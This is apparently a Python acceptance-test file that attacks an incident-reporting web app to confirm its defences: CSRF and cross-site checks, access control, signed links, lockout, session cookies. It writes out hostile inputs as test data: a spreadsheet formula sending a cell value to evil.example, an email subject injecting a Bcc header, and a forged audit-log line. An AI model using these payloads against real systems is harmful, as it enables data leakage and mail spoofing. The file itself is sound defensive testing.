"""It must show 5 (issue 4), from outside: what an attacker with a browser, a mail and somebody's link can try.

On the demo as it comes; the names that are tried and locked are nobody's who signs in elsewhere. Markup in comments:
`test_hostile.py`. Formula cells of files that a user uploads: `test_duty.py`.
"""

from __future__ import annotations

import email
import json
import re
from pathlib import Path

import httpx
import pytest

from tests.acceptance.standing import Mail, Person, Standing, eventually, fengxin, words_of

STRANGER, OFFICE, MONITOR, KEEPER, GIVER = "he.xiaolan", "ye.chuqing", "zheng.wanzhou", "zhou.yiming", "xu.mingde"
UNTOUCHED = "未作任何更改"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"天桥")'
ACTS: tuple[tuple[str, dict[str, str]], ...] = (
    ("/incidents/{number}/confirm", {"note": "假冒"}),
    ("/incidents/{number}/dismiss", {"reason": "规则误判", "note": "假冒"}),
    ("/incidents/{number}/note", {"text": "假冒的备注"}),
    ("/incidents/{number}/tasks", {"kind": "facts", "to": "unit:后勤管理处", "words": "假冒"}),
    ("/statements/{number}/hold", {}),
    ("/statements/{number}/draft", {"text": "假冒的口径"}),
    ("/leads", {"text": "假冒的线索"}),
    ("/permits", {"account": "wb_tw", "subject": "假冒", "text": "假冒"}),
    ("/sign-out", {}),
)
"""A form of each room."""


@pytest.fixture(scope="module")
def number(demo: Standing) -> str:
    """An incident of the main account, typed in; of level Ⅰ, so that no storm of others bundles its notices."""
    demo.lead("天桥上有人拿着刀追着同学砍，满脸是血，正在等救护车")
    desk = demo.signed_in(MONITOR)

    def opened() -> str:
        rows = [row for row in desk.page("/leads").css("tbody tr") if "天桥" in words_of(row)]
        return rows[0].css("a[href^='/incidents/FX']::attr(href)").get("").rpartition("/")[2] if rows else ""

    return eventually("the matter of the bridge", opened, 60)


@pytest.fixture(scope="module")
def letter(demo: Standing, number: str) -> Mail:
    """The first notice of it to the head of the 宣传部."""

    def first() -> list[Mail]:
        return [one for one in demo.mails(to="gu.wenqing", words=number) if "首报" in one.subject]

    return eventually("a mail", first, 30)[0]


def done(person: Person, number: str) -> list[str]:
    """What persons did with an incident, as the log of its page shows it."""
    lines = [words_of(one) for one in person.page(f"/incidents/{number}").css("ol.log li")]
    assert lines
    return [one for one in lines if re.search(r"^\d\d:\d\d:\d\d.*(叶初晴|郑晚舟|何晓岚)$", one)]


def stranger(demo: Standing) -> httpx.Client:
    """A browser that nobody signed in with."""
    return httpx.Client(base_url=demo.url, follow_redirects=False, timeout=20)


def test_no_act_works_without_the_sessions_token_or_from_another_site(demo: Standing, number: str) -> None:
    office = demo.signed_in(OFFICE)
    token = office.page(f"/incidents/{number}").css("input[name=csrf]::attr(value)").get("")
    before = done(office, number)
    for path, form in ACTS:
        where = path.replace("{number}", number)
        for given in ({}, {"csrf": ""}, {"csrf": token[:-1] + ("A" if token[-1] != "A" else "B")}):
            answer = office.client.post(where, data={**form, **given})
            assert (answer.status_code, UNTOUCHED in answer.text) == (403, True), (path, given)
        for headers in ({"origin": "https://evil.example"}, {"sec-fetch-site": "cross-site"}):
            answer = office.client.post(where, data={**form, "csrf": token}, headers=headers)
            assert (answer.status_code, UNTOUCHED in answer.text) == (403, True), (path, headers)
        other = demo.signed_in(MONITOR).client.post(where, data={**form, "csrf": token})
        assert other.status_code == 403, (path, "the token of another person's session")
    with stranger(demo) as nobody:
        answer = nobody.post(f"/incidents/{number}/confirm", data={"csrf": token})
        assert answer.status_code in (303, 401)
    assert done(office, number) == before
    office.send(f"/incidents/{number}/note", f"/incidents/{number}", text="值班员已到现场")
    assert len(done(office, number)) == len(before) + 1, "the form of the page itself works, and nobody was signed out"
    assert office.found("假冒的线索") == []


def test_an_incident_of_another_unit_answers_like_one_that_does_not_exist(demo: Standing, number: str) -> None:
    leader, absent = demo.signed_in(STRANGER), "FX-2026-9999"
    assert number not in words_of(leader.page("/incidents").css("main")[0])
    token = leader.page("/me").css("input[name=csrf]::attr(value)").get("")
    for path in ("/incidents/{number}", "/incidents/{number}/peek", "/statements/{number}"):
        real, none = (leader.client.get(path.replace("{number}", one)) for one in (number, absent))
        assert (real.status_code, none.status_code) == (404, 404), path
        assert real.text.replace(number, "?") == none.text.replace(absent, "?"), path
        assert "天桥" not in real.text
    for path in ("/incidents/{number}/note",):
        form = {"csrf": token, "text": "路过"}
        real, none = (leader.client.post(path.replace("{number}", one), data=form) for one in (number, absent))
        assert (real.status_code, none.status_code) == (404, 404), path
        assert real.text.replace(number, "?") == none.text.replace(absent, "?"), path
    assert leader.client.get("/search", params={"q": "天桥"}).status_code == 403


def test_a_link_that_was_altered_used_or_made_for_something_else_opens_nothing(
    demo: Standing, number: str, letter: Mail
) -> None:
    head, _, token = letter.sign_path.rpartition("/")
    with stranger(demo) as phone:
        for place in range(0, len(token) - 1, 7):
            other = "A" if token[place] != "A" else "B"
            altered = phone.post(f"{head}/{token[:place]}{other}{token[place + 1 :]}")
            assert altered.status_code == 404, place
            assert number not in altered.text
        for wrong in (token[:-4], token[::-1], token.swapcase(), "%00"):
            assert phone.get(f"{head}/{wrong}").status_code in (404, 405, 307), wrong
        for foreign in ("/k/", "/t/", "/v/", "/c/"):
            answer = phone.get(foreign + token)
            assert answer.status_code == 404, foreign
            assert "天桥" not in answer.text
        for method in ("GET", "HEAD", "OPTIONS", "PUT", "DELETE"):
            phone.request(method, letter.sign_path, headers={"user-agent": "SafeLinks"})
        assert phone.get(letter.sign_path).status_code == 200, "a scanner that fetches it has signed nothing"
        bystander = demo.signed_in(STRANGER).client
        assert bystander.post(letter.sign_path, follow_redirects=False).status_code in (200, 303)
        again = phone.post(letter.sign_path)
        assert again.status_code == 410
        assert "天桥" not in again.text
    assert [one for one in done(demo.signed_in(OFFICE), number) if "何晓岚" in one] == [], (
        "whoever presses it, it is the addressee's signature"
    )


def test_six_wrong_passwords_and_a_name_that_nobody_has_are_answered_alike(school: Standing) -> None:
    def tried(name: str) -> list[tuple[int, str]]:
        with stranger(school) as browser:
            answers = [browser.post("/sign-in", data={"name": name, "password": f"wrong-{n}"}) for n in range(6)]
        return [(one.status_code, one.text.replace(name, "?")) for one in answers]

    (password,) = re.findall(r"口令都是 (\S+?)）", school.printed)
    known, unknown = tried("wu.xiaoyu"), tried("no.body")
    assert known == unknown
    assert [code for code, _ in known] == [401] * 6
    assert "锁定" in known[-1][1]
    assert password not in known[-1][1]
    with stranger(school) as browser:
        right = browser.post("/sign-in", data={"name": "wu.xiaoyu", "password": password})
        assert right.status_code == 401, "locked also for who has it right"


def test_what_a_user_types_forges_no_header_no_line_and_no_cell(demo: Standing, number: str, tmp_path: Path) -> None:
    keeper, office = demo.signed_in(KEEPER), demo.signed_in(OFFICE)
    subject = "春招宣讲\r\nBcc: all@evil.example\r\nX-Forged: 1\r\n\r\n假冒的正文"
    account = keeper.page("/permits").css("select[name=account] option::attr(value)").get("")
    asked = keeper.send(
        "/permits", "/permits", account=account, subject=subject, text="宣讲会通知", why="\nSubject: 假冒"
    )
    paper = asked.url.path.rpartition("/")[2]
    if asked.status_code == 200 and re.fullmatch(r"SQ-\d{4}-\d{4}", paper):
        eventually("the one who decides is written to", lambda: demo.mails(to=GIVER, words="授权"), 30)
    else:
        assert (asked.status_code, UNTOUCHED in asked.text) == (409, True)
    for path in (demo.data / "inbox").glob("[0-9]*.eml"):
        mail = email.message_from_bytes(path.read_bytes())
        assert not {"bcc", "cc", "x-forged"} & {name.lower() for name in mail}, path.name
        assert len(mail.get_all("subject", [])) == len(mail.get_all("to", [])) == 1, path.name
        assert "evil.example" not in str(mail["to"])

    office.send(f"/incidents/{number}/note", f"/incidents/{number}", text=f"{FORMULA}\r\n@SUM(1+1)\t+1")
    with stranger(demo) as browser:
        browser.post("/sign-in", data={"name": 'x"}\n{"action":"trial.end"', "password": "wrong"})
    assert FORMULA in words_of(office.page(f"/incidents/{number}").css("body")[0]), "shown as it was typed"
    out = tmp_path / "audit.jsonl"
    done = fengxin("audit", "export", "--out", out, "--settings", demo.data / "fengxin.toml")
    assert done.returncode == 0, done.stderr
    lines = out.read_text("utf-8").splitlines()
    rows = [json.loads(line) for line in lines]
    assert all(line.startswith("{") for line in lines), "no cell of a table begins with = + - @"
    forged = [row for row in rows if row.get("action") == "trial.end" and row.get("actor") is None]
    assert forged == []
    assert any("trial.end" in str(row.get("object", "")) for row in rows), "the name that was tried, in one line"
    assert fengxin("audit", "verify", "--file", out).returncode == 0


SIGN_INS = {
    "monitor": MONITOR, "publicity": OFFICE, "school leader": "lin.zhiyuan", "unit leader": "gu.wenqing",
    "keeper": KEEPER, "care": "su.anning",
}  # fmt: skip
"""A column of the table of roles, and who of the demo holds this role alone."""
BY_THE_SHIFT = ("/duty/handover", "/events", "/raise")
"""Pages that depend on who is on duty, never end, or ask for a line."""


def cells() -> list[tuple[str, dict[str, str]]]:
    """The pages of the documented table that need no paper: path, and what each column says."""
    text = (Path(__file__).parents[2] / "escalation/web/roles.md").read_text("utf-8")
    lines = [[cell.strip() for cell in line.strip("|").split("|")] for line in text.splitlines() if line[:2] == "| "]
    (head, *rows) = lines
    found = [(row[0].strip("`").removeprefix("GET "), dict(zip(head, row, strict=False))) for row in rows]
    return [(path, says) for path, says in found if path[0] == "/" and "{" not in path and path not in BY_THE_SHIFT]


def acts() -> list[tuple[str, dict[str, str]]]:
    """The acts of the documented table: path, and what each column says."""
    text = (Path(__file__).parents[2] / "escalation/web/roles.md").read_text("utf-8")
    lines = [[cell.strip() for cell in line.strip("|").split("|")] for line in text.splitlines() if line[:2] == "| "]
    (head, *rows) = lines
    found = [(re.fullmatch(r"`POST (/\S+)`", row[0]), row) for row in rows]
    return [(act[1], dict(zip(head, row, strict=False))) for act, row in found if act is not None]


def test_an_act_that_the_table_forbids_a_role_is_refused_and_without_a_session_none_is_done(
    demo: Standing, number: str
) -> None:
    """What a role may do is tried by the courses; here every 403 of the table, and everybody's way in."""
    wrong, tried = [], 0
    for column, name in SIGN_INS.items():
        person = demo.signed_in(name)
        token = person.page("/me").css("input[name=csrf]::attr(value)").get("")
        assert token
        for path, says in acts():
            if says.get(column) == "403":
                where = re.sub(r"\{\w+\}", "1", path.replace("{number}", number))
                answer = person.client.post(where, data={"csrf": token}, follow_redirects=False)
                tried += 1
                wrong += [(column, path, answer.status_code)] if answer.status_code != 403 else []
    outside = httpx.Client(base_url=demo.url, follow_redirects=False)
    for path, says in acts():
        if says.get("nobody") == "sign-in":
            answer = outside.post(re.sub(r"\{\w+\}", "1", path.replace("{number}", number)), data={"csrf": "x"})
            wrong += [("nobody", path, answer.status_code)] if answer.status_code != 401 else []
    assert tried > 150, "the table has that many"
    assert wrong == []


def test_a_session_is_a_new_secret_at_each_sign_in_that_no_script_reads(demo: Standing) -> None:
    (word,) = set(re.findall(r"口令都是 (\S+?)）", demo.printed))
    said = [
        httpx.post(f"{demo.url}/sign-in", data={"name": MONITOR, "password": word}).headers["set-cookie"]
        for _ in range(2)
    ]
    secrets = [one.partition(";")[0].partition("=")[2] for one in said]
    assert len(set(secrets)) == 2
    assert all(len(one) >= 32 for one in secrets)
    for one in said:
        assert {"httponly", "samesite=lax", "path=/"} <= {part.strip().lower() for part in one.split(";")}
    guess = secrets[0][:-1] + ("a" if secrets[0][-1] != "a" else "b")
    name = said[0].partition("=")[0]
    answer = httpx.get(f"{demo.url}/desk", cookies={name: guess}, follow_redirects=False)
    assert answer.headers["location"].startswith("/sign-in"), "a guess is nobody's"


def test_every_page_opens_to_the_roles_of_the_table_and_to_nobody_else_nor_after_signing_out(demo: Standing) -> None:
    table = cells()
    assert len(table) > 20
    opened = {}
    for column, name in SIGN_INS.items():
        client = demo.signed_in(name).client
        for path, says in table:
            answer = client.get(path, follow_redirects=False)
            opened[path, column] = (
                "yes" if answer.status_code in (200, 303) else str(answer.status_code),
                says[column],
            )
    left = Person(demo.url, MONITOR, re.findall(r"口令都是 (\S+?)）", demo.printed)[0])
    kept = dict(left.client.cookies)
    left.send("/sign-out", "/me")
    for column, client in (("nobody", httpx.Client(base_url=demo.url)),
                           ("nobody", httpx.Client(base_url=demo.url, cookies=kept))):  # fmt: skip
        for path, says in table:
            answer = client.get(path, follow_redirects=False)
            away = answer.status_code == 303 and answer.headers["location"].startswith("/sign-in")
            opened[path, f"{column} {len(client.cookies)}"] = ("sign-in" if away else "yes", says[column])
    assert {cell: pair for cell, pair in opened.items() if pair[0] != pair[1]} == {}
